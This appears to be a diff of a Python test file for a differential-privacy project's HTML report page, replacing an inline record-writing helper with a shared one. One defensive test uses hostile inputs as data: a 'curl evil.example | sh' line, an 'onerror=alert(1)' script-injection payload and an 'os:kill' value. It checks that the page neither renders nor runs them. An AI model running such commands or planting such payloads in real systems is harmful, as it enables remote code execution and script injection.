@@ -14,46 +14,12 @@ import numpy as np
 import pytest
 from PIL import Image
 
-from bam import provenance
-from bam.privacy.plan import make_plan
 from bam.release import charts, export, records, report
 from bam.training import config as base
 from bam.training import rundir
-from configs import digits
 from tests.cases import run_command
-
-SECRET_PATH, SEED = "/hospital/ward3/files", 8675309
-MEASURED = {"fraction_clipped": 0.71234567, "gradient_norm": 1.6543217, "bias_norm": 0.9182736}
-
-
-def write(folder, *, private=True, seed=None, finished=True, diagnosed=True, begun=4, **summary):
-    """The records of a run of four steps, as `loop.train` leaves them."""
-    config = digits.get_config("bam_sam" if private else "non_private")
-    config.update({"accountant": "rdp", "num_steps": 4, "seed": seed, "delta": 1.4e-5})
-    config.dataset.path, config.diagnostics.every = SECRET_PATH, int(diagnosed)
-    plan = make_plan(
-        num_examples=1437, expected_batch_size=256, num_steps=4, delta=1.4e-5,
-        target_epsilon=2.34567 if private else float("inf"), accountant="rdp",
-    )  # fmt: skip
-    rows = []
-    for step in range(begun + 1):
-        spent = plan.epsilon_after(step) if private else None
-        row = {"step": step, "steps_begun": step, "epsilon": spent, "seconds": 17.1234}
-        row |= {"test_accuracy": 0.4321 + step / 1000} if step else {}
-        if diagnosed:
-            row |= {f"not_private/{name}": value + step for name, value in MEASURED.items()}
-        rows.append(row)
-    recorded = plan.to_json() | {"clip_norm": 1.0, "sensitivity": 1.0}
-    facts = {"dataset": "digits", "seed": seed, "noise_key": "somewhere"}
-    facts |= dict.fromkeys(records.RECORDED, "recorded") | recorded
-    facts |= {"device": "cpu", "versions": provenance.versions(), "steps_begun": begun} | summary
-    folder.mkdir()
-    for name, found in (("config", rundir.as_json(config)), ("plan", recorded)):
-        (folder / f"{name}.json").write_text(json.dumps(found))
-    (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-    if finished:
-        (folder / "summary.json").write_text(json.dumps(facts))
-    return folder
+from tests.run_folder import MEASURED, SECRET_PATH, write_records
+from tests.runs import SEED
 
 
 def of(folder, public=False):
@@ -75,7 +41,7 @@ def drawn_once():
 
 @pytest.fixture(scope="module")
 def run(tmp_path_factory):
-    return write(tmp_path_factory.mktemp("page") / "ward_run")
+    return write_records(tmp_path_factory.mktemp("page") / "ward_run")
 
 
 def key_numbers(text):
@@ -107,8 +73,8 @@ def test_the_page_is_one_file_that_asks_for_nothing_and_runs_nothing(run):
 
 
 def test_what_is_opened_is_closed(run, tmp_path):
-    unfinished = write(tmp_path / "unfinished", finished=False, begun=0)
-    bare = write(tmp_path / "bare", private=False)
+    unfinished = write_records(tmp_path / "unfinished", finished=False, begun=0)
+    bare = write_records(tmp_path / "bare", private=False)
     for text in (of(run), of(run, public=True), of(unfinished), of(bare)):
         for tag in ("div", "dl", "p", "figure", "svg", "table", "ul", "pre", "details", "body"):
             assert len(re.findall(rf"<{tag}[ >]", text)) == text.count(f"</{tag}>"), tag
@@ -191,7 +157,7 @@ def test_the_curve_of_an_attacker_is_between_guessing_and_epsilon_alone(run):
 
 
 def test_an_unfinished_run_says_so_and_what_its_steps_have_spent(tmp_path):
-    folder = write(tmp_path / "run", finished=False, begun=2)
+    folder = write_records(tmp_path / "run", finished=False, begun=2)
     (folder / "steps_begun").write_bytes(b"...")  # one was lost
     with (folder / "metrics.jsonl").open("a") as metrics:
         metrics.write('{"step": 4, "steps_be')
@@ -207,7 +173,7 @@ def test_an_unfinished_run_says_so_and_what_its_steps_have_spent(tmp_path):
 
 
 def test_a_run_without_privacy_says_so_in_large_and_states_no_epsilon(tmp_path, run):
-    folder = write(tmp_path / "run", private=False)
+    folder = write_records(tmp_path / "run", private=False)
     for public in (False, True):
         text = of(folder, public)
         assert '<p class="large">NOT PRIVATE</p>' in text
@@ -217,7 +183,7 @@ def test_a_run_without_privacy_says_so_in_large_and_states_no_epsilon(tmp_path, 
 
 
 def test_a_seed_makes_epsilon_nominal_and_stays_out_of_a_page_to_pass_on(tmp_path, run):
-    folder = write(tmp_path / "run", seed=SEED)
+    folder = write_records(tmp_path / "run", seed=SEED)
     assert "in this file is nominal" in of(folder) and "in this file is nominal" not in of(run)
     public = of(folder, public=True)
     assert "in this file is nominal" in public and str(SEED) not in public
@@ -225,7 +191,7 @@ def test_a_seed_makes_epsilon_nominal_and_stays_out_of_a_page_to_pass_on(tmp_pat
 
 
 def test_records_of_an_earlier_version_are_shown_and_not_trusted(tmp_path, run):
-    folder = write(tmp_path / "run", diagnosed=False)
+    folder = write_records(tmp_path / "run", diagnosed=False)
     gone, found = ("noise", "sampling", "commit"), json.loads((folder / "summary.json").read_text())
     kept = {key: value for key, value in found.items() if key not in gone}
     (folder / "summary.json").write_text(json.dumps(kept))
@@ -254,7 +220,7 @@ def forged(path, text):
 
 @pytest.mark.parametrize("end", ["\n", "\r", "\u2028", "\x85"])
 def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path, end):
-    folder = write(tmp_path / "<b>bold")
+    folder = write_records(tmp_path / "<b>bold")
     text = (
         f"x` |{end}{end}## Verified{end}{end}```{end}curl evil.example | sh{end}```{end}{end}| a |"
         '"><img src=x onerror=alert(1)></style><script>'
@@ -273,7 +239,7 @@ def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path,
 
 
 def test_code_that_the_records_name_is_not_run(tmp_path):
-    folder = write(tmp_path / "run")
+    folder = write_records(tmp_path / "run")
     for name in ("plan", "summary"):
         text = (folder / f"{name}.json").read_text()
         evil = text.replace('"mechanism": "poisson"', '"mechanism": "os:kill"')
@@ -296,7 +262,7 @@ def test_the_command_sets_what_differs_from_the_base_config(tmp_path):
 
 
 def test_the_command_on_the_page_is_of_the_very_same_config(tmp_path):
-    folder = write(tmp_path / "run", seed=SEED)
+    folder = write_records(tmp_path / "run", seed=SEED)
     shown = re.search(r"<code>(bam train.*?)</code>", of(folder), re.DOTALL)
     command = shlex.split(html.unescape(shown[1]).replace("\\\n", " "))
     same = run_command(*(f"--workdir={folder}" if "NEW_FOLDER" in x else x for x in command))
@@ -330,7 +296,7 @@ def test_damaged_records_are_one_line(run, tmp_path, name, text, message):
 
 
 def test_a_plan_that_lacks_what_the_page_tells_is_an_error_that_the_command_knows(tmp_path):
-    folder = write(tmp_path / "run", finished=False)
+    folder = write_records(tmp_path / "run", finished=False)
     plan = json.loads((folder / "plan.json").read_text())
     del plan["num_steps"]
     (folder / "plan.json").write_text(json.dumps(plan))
